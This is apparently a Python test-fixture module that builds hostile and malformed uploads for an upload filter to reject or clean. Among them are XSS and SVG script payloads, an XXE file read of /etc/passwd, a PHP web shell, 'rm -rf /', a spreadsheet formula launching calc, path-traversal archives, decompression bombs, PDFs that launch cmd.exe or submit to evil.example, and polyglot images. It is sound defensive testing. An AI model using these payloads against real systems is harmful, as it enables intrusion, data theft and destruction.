"""Uploads that mean harm, or make no sense: made here, never kept as files. Each is refused; those in `ODD` are made harmless and kept."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import warnings
import zipfile
import zlib

from PIL import Image

from tests.builders.files import PNG, chunk, object_stream, pdf, pdf_stream, picture, png

# The library warns of formats that it will drop some day, when it is asked to know them all.
with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    Image.init()

HTML = b"<!doctype html><script>alert(1)</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>'
XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
LAUGHS = b'<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><a>&b;</a>'
PHP = b"<?php system($_GET['c']); ?>"


def _zip(*files: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in files:
            made.writestr(name, content)
    return out.getvalue()


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        made.addfile(tarfile.TarInfo("../../etc/passwd"))
    return out.getvalue()


def _frames(kind: str, **save: object) -> bytes:
    first, *more = (Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue"))
    out = io.BytesIO()
    first.save(out, kind, save_all=True, append_images=more, **save)
    return out.getvalue()


def _jpeg_that_claims(width: int, height: int) -> bytes:
    raw = bytearray(picture())
    start = next(raw.index(bytes([0xFF, mark])) for mark in (0xC0, 0xC2) if bytes([0xFF, mark]) in raw)
    raw[start + 5 : start + 9] = struct.pack(">HH", height, width)
    return bytes(raw)


def _nested() -> bytes:
    bomb = b"\0" * 1_000_000
    for _ in range(5):
        bomb = _zip(("a.zip", bomb), ("b.zip", bomb))
    return bomb


_BOMB = zlib.compress(b"\0" * 30_000_000, 9)
_WHOLE = picture()
_WHOLE_PNG = picture("PNG")
_LINES = Image.effect_noise((64, 64), 90).convert("RGB")
_NOISE = io.BytesIO()
_LINES.save(_NOISE, "JPEG")
NOISY = _NOISE.getvalue()


def _formats() -> dict[str, bytes]:
    """Files of other kinds, whatever they are called."""
    saved = {kind: picture(kind, (20, 20)) for kind in ("GIF", "WEBP", "BMP", "TIFF", "ICO", "PPM", "PCX", "TGA", "DDS", "ICNS", "SGI")}
    return {
        **{f"a {kind} picture": raw for kind, raw in saved.items()},
        "a moving GIF": _frames("GIF"),
        "a moving WebP": _frames("WEBP"),
        "a TIFF of several pages": _frames("TIFF"),
        "a JPEG 2000": b"\0\0\0\x0cjP  \r\n\x87\n" + b"\0" * 40,
        "an XBM": b"#define a_width 1\n#define a_height 1\nstatic char a_bits[] = {0};",
        "a Photoshop file": b"8BPS\0\1" + b"\0" * 40,
        "a HEIC": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 40,
        "an AVIF": b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + b"\0" * 40,
        "an EPS": b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n",
        "a PostScript": b"%!PS\n{ } loop\n",
        "a DOS EPS": b"\xc5\xd0\xd3\xc6" + b"\0" * 40,
        "an SVG": SVG,
        "an SVG with a head": b'<?xml version="1.0"?>' + SVG,
        "a packed SVG": gzip.compress(SVG),
        "an HTML page": HTML,
        "an HTML page after spaces": b"\n\n   " + HTML,
        "an HTML page with a mark": b"\xef\xbb\xbf" + HTML,
        "an HTML page in UTF-16": HTML.decode().encode("utf-16"),
        "an XML that reads files": XXE,
        "an XML of laughs": LAUGHS,
        "a PHP script": PHP,
        "a shell script": b"#!/bin/sh\nrm -rf /\n",
        "a batch file": b"@echo off\r\nformat c:\r\n",
        "a script for a browser": b"alert(document.cookie)",
        "a Windows program": b"MZ\x90\0" + b"\0" * 200,
        "a Linux program": b"\x7fELF\x02\x01\x01" + b"\0" * 60,
        "a Mac program": b"\xcf\xfa\xed\xfe" + b"\0" * 60,
        "a Java class": b"\xca\xfe\xba\xbe\0\0\0\x34" + b"\0" * 60,
        "a WebAssembly": b"\0asm\1\0\0\0",
        "a Flash film": b"CWS\x0a" + b"\0" * 60,
        "a shortcut": b"L\0\0\0\1\x14\2\0" + b"\0" * 60,
        "a zip": _zip(("a.txt", b"a")),
        "a zip that climbs": _zip(("../../../etc/cron.d/a", b"a")),
        "a zip bomb": _zip(("a", b"\0" * 5_000_000)),
        "a zip bomb in zip bombs": _nested(),
        "a Word file": _zip(("[Content_Types].xml", XXE), ("word/document.xml", LAUGHS)),
        "an old Word file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 60,
        "an RTF": b"{\\rtf1{\\object\\objautlink}}",
        "a gzip bomb": gzip.compress(b"\0" * 5_000_000),
        "a bzip2 bomb": bz2.compress(b"\0" * 2_000_000),
        "an xz bomb": lzma.compress(b"\0" * 2_000_000, preset=0),
        "a tar that climbs": _tar(),
        "a 7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 60,
        "a rar": b"Rar!\x1a\x07\1\0" + b"\0" * 60,
        "a film": b"\0\0\0\x18ftypmp42" + b"\0" * 60,
        "a sound": b"ID3\4\0\0" + b"\0" * 60,
        "a database": b"SQLite format 3\0" + b"\0" * 60,
        "a key": b"-----BEGIN PRIVATE KEY-----\nMII\n",
        "plain words": b"I owe you 40 pounds.",
        "a table": b"=cmd|'/c calc'!A1,2\n",
        "nothing but nul": b"\0" * 500,
        "one byte": b"x",
        "empty": b"",
    }


def _pictures() -> dict[str, bytes]:
    """JPEG and PNG by their first bytes, and then not."""
    words = b"Comment\0\0" + _BOMB
    return {
        "a JPEG of three bytes": b"\xff\xd8\xff",
        "a JPEG of nothing": b"\xff\xd8\xff\xe0" + b"\0" * 500,
        "a JPEG that is PHP": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + PHP,
        "a JPEG that is a page": b"\xff\xd8\xff\xfe\0\x30" + HTML,
        "a JPEG that ends at once": b"\xff\xd8\xff\xd9",
        "a JPEG cut off in its head": _WHOLE[:100],
        "a JPEG cut off in its middle": NOISY[: len(NOISY) * 2 // 3],
        "a JPEG 65,535 wide and high": _jpeg_that_claims(65_535, 65_535),
        "a JPEG 65,535 wide and 1 high": _jpeg_that_claims(65_535, 1),
        "a JPEG of 100 million pixels": _jpeg_that_claims(10_000, 10_000),
        "a JPEG of no width": _jpeg_that_claims(0, 10),
        "a JPEG without its tables": _WHOLE.replace(b"\xff\xdb", b"\xff\xfe").replace(b"\xff\xc4", b"\xff\xfe"),
        "a PNG of eight bytes": PNG,
        "a PNG of nothing": PNG + b"\0" * 100,
        "a PNG that is a page": PNG + HTML,
        "a PNG of 2,500 million pixels": png(50_000, 50_000),
        "a PNG as large as numbers go": png(2**31 - 1, 2**31 - 1),
        "a PNG 20,000 wide": png(20_000, 10),
        "a PNG of 81 million pixels": png(9_000, 9_000),
        "a PNG of no width": png(0, 10),
        "a PNG cut off": _WHOLE_PNG[: len(_WHOLE_PNG) - 30],
        "a PNG with a wrong sum": PNG + chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 0, 0, 0, 0), right=False) + _WHOLE_PNG[33:],
        "a PNG without pixels": PNG + chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 0, 0, 0, 0)) + chunk(b"IEND", b""),
        "a PNG of no known depth": png(9, 9, depth=7),
        "a PNG of no known colours": png(9, 9, colour=5),
        "a PNG whose pixels are no zlib": PNG + chunk(b"IHDR", struct.pack(">IIBBBBB", 9, 9, 8, 0, 0, 0, 0)) + chunk(b"IDAT", b"x" * 90),
        "a PNG whose words are a bomb": png(9, 9, before=[chunk(b"zTXt", words)]),
        "a PNG whose profile is a bomb": png(9, 9, before=[chunk(b"iCCP", words)]),
        "a PNG whose other words are a bomb": png(9, 9, before=[chunk(b"iTXt", b"A\0\1\0\0\0" + _BOMB)]),
    }


def _pdfs() -> dict[str, bytes]:
    """PDFs that act, hide, lock, or are none."""
    script = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    return {
        "a PDF with a script": pdf(catalog=b"/OpenAction " + script),
        "a PDF with a script among names": pdf(catalog=b"/Names << /JavaScript 4 0 R >>"),
        "a PDF with a script in other letters": pdf(catalog=b"/OpenAction << /S /J#61vaScr#69pt /#4A#53 (x) >>"),
        "a PDF with a script in an object stream": pdf(object_stream(b"4 0 " + script)),
        "a PDF with a script in a bare object stream": pdf(object_stream(b"4 0 " + script, packed=False)),
        "a PDF with a script on its page": pdf(b"<< /AA << /O " + script + b" >> >>"),
        "a PDF that starts a program": pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "a PDF with a file in it": pdf(pdf_stream(b"/Type /EmbeddedFile", b"MZ")),
        "a PDF with named files": pdf(catalog=b"/Names << /EmbeddedFiles 4 0 R >>"),
        "a PDF that opens another inside it": pdf(catalog=b"/OpenAction << /S /GoToE >>"),
        "a PDF with a form of scripts": pdf(catalog=b"/AcroForm << /XFA 4 0 R >>"),
        "a PDF that sends its form": pdf(b"<< /S /SubmitForm /F (http://evil.example) >>"),
        "a PDF that takes data in": pdf(b"<< /S /ImportData >>"),
        "a PDF with a film": pdf(b"<< /Subtype /RichMedia >>"),
        "a PDF with a password": pdf(b"<< /Filter /Standard /V 5 >>", trailer=b"/Encrypt 4 0 R"),
        "a PDF whose object stream is a bomb": pdf(pdf_stream(b"/Type /ObjStm /Filter /FlateDecode", _BOMB)),
        "a PDF whose object stream is packed twice": pdf(pdf_stream(b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]", b"00>")),
        "a PDF whose object stream is broken": pdf(pdf_stream(b"/Type /ObjStm /Filter /FlateDecode", b"no zlib")),
        "a PDF cut off": pdf()[:-60],
        "a PDF of a head": b"%PDF-1.7\n",
        "a PDF that is a page": b"%PDF-1.7\n" + HTML,
        "a PDF without pages": b"%PDF-1.7\n1 0 obj << >> endobj\nstartxref\n0\n%%EOF\n",
        "a PDF after a program": b"MZ\x90\0" + pdf(),
        "a PDF after a page": HTML + pdf(),
        "a PDF after a space": b" " + pdf(),
        "a PDF of more than 10 MB": b"%PDF-1.7\n" + b"\0" * (10 * 1024 * 1024),
    }


def refused() -> dict[str, bytes]:
    """Each by what it is."""
    return {**_formats(), **_pictures(), **_pdfs()}


def odd() -> dict[str, bytes]:
    """Strange, but pictures: each is made anew, and what hid in it is gone."""
    out = io.BytesIO()
    _LINES.save(out, "JPEG", progressive=True)
    return {
        "CMYK": picture(mode="CMYK"),
        "grey": picture(mode="L"),
        "with a profile of nonsense": picture(icc_profile=b"nonsense"),
        "progressive": out.getvalue(),
        "a PNG that moves": _frames("PNG"),
        "two pictures in one (MPO)": _frames("MPO"),
        "a JPEG before a zip": _WHOLE + _zip(("a.php", PHP)),
        "a JPEG before a page": _WHOLE + HTML,
        "a JPEG before a PDF that acts": _WHOLE + pdf(catalog=b"/OpenAction << /JS (x) >>"),
        "a PNG before a program": _WHOLE_PNG + b"MZ\x90\0" + PHP,
        "a JPEG with a script for its words": picture(comment=PHP),
        "with orientation out of range": _oriented(99),
        "with palette and see-through": picture("PNG", mode="P", transparency=0),
        "a PNG of 16 bits": picture("PNG", mode="I;16"),
    }


def _oriented(value: int) -> bytes:
    exif = Image.Exif()
    exif[0x0112] = value
    return picture(exif=exif)
